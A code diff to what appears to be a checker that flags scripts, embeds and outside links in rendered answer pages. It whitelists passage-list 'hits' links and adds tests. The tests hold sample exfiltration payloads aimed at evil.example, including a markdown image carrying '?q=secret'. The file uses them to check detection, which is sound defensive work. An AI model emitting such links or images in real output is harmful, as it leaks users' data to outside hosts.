@@ -54,6 +54,8 @@ OWN_BUTTONS = {
     (name, 0)
     for name in ("", "Edit", "Ask this instead", "Cancel", "Copy with sources", "Ask again")
 }
+# A file of the passages found, by their ids.
+HITS = re.compile(r"hits\.[a-z]+\?passages=[0-9a-f]+-\d+(?:%2C[0-9a-f]+-\d+)*")
 ACTIVE = "img form input button script iframe object embed svg style link meta video audio".split()
 
 
@@ -92,7 +94,7 @@ def acts(page: str) -> list[str]:
         if element.tag in ACTIVE and not is_ours(element):
             found.append(html.tostring(element, encoding="unicode"))
         for name, value in element.attrib.items():
-            own = value.startswith(("#source-", "articles/", "?story="))
+            own = value.startswith(("#source-", "articles/", "?story=")) or HITS.fullmatch(value)
             if name.startswith("on") or (name in {"href", "src", "action"} and not own):
                 found.append(f"{name}={value}")
     return found
@@ -175,6 +177,7 @@ def test_what_acts_would_be_seen_by_these_tests() -> None:
         MarkdownIt("commonmark").render("![x](http://evil.example/?q=secret)"),
     ):
         assert acts(page)
+    assert acts('<a href="hits.csv?passages=12ab-0&amp;x=http://evil.example">here</a>')
     assert not acts('<a href="#source-0-1">1</a><a href="articles/1234">here</a>')
 
 
